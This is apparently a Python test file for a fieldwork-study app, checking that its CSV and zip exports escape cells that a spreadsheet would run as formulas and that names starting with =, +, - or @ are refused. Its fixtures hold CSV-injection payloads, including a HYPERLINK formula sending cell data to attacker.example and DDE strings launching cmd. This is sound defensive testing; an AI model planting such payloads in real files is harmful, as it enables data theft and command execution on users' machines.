"""No CSV the tool writes can run as a formula in a spreadsheet, and frame names that would
start one are refused where they are typed (issue 11, point 8)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from frictionless import validate

from fieldwork.core.spreadsheet import is_formula_like
from fieldwork.coverage.models import Quota, cell_key
from fieldwork.exports.datapackage import build_package
from fieldwork.exports.package import write_directory
from fieldwork.extensions import db
from fieldwork.recruitment.consent import record_consent
from fieldwork.recruitment.models import ConsentMethod
from fieldwork.sampling.frame import common, districts, organisations, phases, roles, studies
from fieldwork.sampling.imports import reader
from fieldwork.sampling.models import OrganisationKind
from tests.factories import (
    make_district,
    make_organisation,
    make_participant,
    make_role,
    make_study,
    make_user,
    phase_of,
)
from tests.recruitment.helpers import all_yes, make_published_version

#: Names as a hostile or careless earlier version of the data might hold them (the factories
#: write rows directly, as data from before the input rule would be).
HOSTILE_DISTRICT = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
HOSTILE_ORGANISATION = "+cmd|' /C calc'!A0"
HOSTILE_ROLE = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_PHASE = "-2+3+cmd|' /C calc'!A0"
HOSTILE_STUDY = "\t=1+1"


@pytest.fixture
def hostile_study(app):
    coordinator = make_user("coordinator")
    study = make_study(HOSTILE_STUDY, slug="hostile")
    phase = phase_of(study, 1)
    phase.name = HOSTILE_PHASE
    district = make_district(study, HOSTILE_DISTRICT, phase=1)
    organisation = make_organisation(
        study, HOSTILE_ORGANISATION, OrganisationKind.JCP, [district], notes="=1+1"
    )
    role = make_role(study, HOSTILE_ROLE, OrganisationKind.JCP)
    db.session.add_all(
        [
            Quota(
                study_id=study.id,
                role_id=role.id,
                phase_id=phase.id,
                target=2,
                cell_key=cell_key(role_id=role.id, phase_id=phase.id),
            ),
            Quota(
                study_id=study.id,
                role_id=role.id,
                phase_id=phase.id,
                district_id=district.id,
                target=1,
                cell_key=cell_key(role_id=role.id, phase_id=phase.id, district_id=district.id),
            ),
        ]
    )
    db.session.commit()
    version = make_published_version(study, coordinator, title="=consent")
    for number in range(6):
        person = make_participant(
            study,
            district=district,
            organisation=organisation,
            role=role,
            name=f"=Person {number}",
            job_title="-adviser",
        )
        record_consent(
            person, version, method=ConsentMethod.WRITTEN, answers=all_yes(), actor=coordinator
        )
    return {"study": study, "coordinator": coordinator}


def formula_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if is_formula_like(cell)
    ]


def test_coverage_csv_quotes_every_cell_that_could_run(hostile_study, client, auth):
    auth.login(hostile_study["coordinator"])
    response = client.get(f"/coverage.csv?study={hostile_study['study'].slug}")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert "'" + HOSTILE_ROLE in text and "'" + HOSTILE_DISTRICT.replace('"', '""') in text
    assert formula_cells(text) == []


def test_no_cell_of_the_open_data_export_could_run_and_it_still_validates(hostile_study, tmp_path):
    package = build_package(hostile_study["study"], "day")
    files = package.files()
    csvs = {path: data for path, data in files.items() if path.endswith(".csv")}
    assert csvs
    every_cell = []
    for path, data in csvs.items():
        text = data.decode("utf-8")
        assert formula_cells(text) == [], path
        every_cell += [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert "'" + HOSTILE_ORGANISATION in every_cell
    write_directory(package, tmp_path / "package")
    report = validate(str(tmp_path / "package" / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def test_the_zip_download_holds_no_formula_either(hostile_study, client, auth):
    auth.login(hostile_study["coordinator"])
    response = client.get("/studies/hostile/export.zip")
    assert response.status_code == 200, response.status_code
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                assert formula_cells(archive.read(name).decode("utf-8")) == [], name


@pytest.mark.parametrize("name", ["=HYPERLINK(1)", "+44", "-North", "@home"])
@pytest.mark.parametrize("kind", ["study", "phase", "district", "organisation", "role"])
def test_services_refuse_frame_names_that_start_a_formula(app, kind, name):
    study = make_study()
    save = {
        "study": lambda: studies.save_study(
            None, name=name, slug="new-study", organiser_email="team@example.org"
        ),
        "phase": lambda: phases.save_phase(study, None, number=3, name=name),
        "district": lambda: districts.save_district(
            study, None, name=name, phase_id=phase_of(study, 1).id
        ),
        "organisation": lambda: organisations.save_organisation(
            study, None, name=name, kind=OrganisationKind.JCP
        ),
        "role": lambda: roles.save_role(
            study, None, name=name, organisation_kind=OrganisationKind.JCP
        ),
    }[kind]
    with pytest.raises(common.FrameFieldError) as raised:
        save()
    assert raised.value.field == "name"
    assert "spreadsheets read such text as a formula" in str(raised.value)


def test_the_district_form_shows_the_refusal_beside_the_name(app, client, auth):
    auth.login(make_user("coordinator"))
    study = make_study(slug="forms")
    response = client.post(
        f"/districts/new?study={study.slug}",
        data={"name": "=HYPERLINK(1)", "phase_id": str(phase_of(study, 1).id)},
    )
    assert response.status_code == 422
    assert "cannot begin with =" in response.get_data(as_text=True)


def test_an_import_that_would_create_a_formula_name_is_refused_line_by_line(app):
    study = make_study()
    make_role(study, "Manager", OrganisationKind.JCP)
    text = (
        "name,role,organisation,organisation_kind,district,phase\r\n"
        "Ann Lee,Manager,=HYPERLINK(1),jcp,North,1\r\n"
        "Bo Li,Manager,JCP North,jcp,@North,1\r\n"
    )
    plan = reader.parse_frame(study, text)
    assert {(p.line, p.column) for p in plan.problems} == {(2, "organisation"), (3, "district")}
    assert all("formula" in p.message for p in plan.problems)
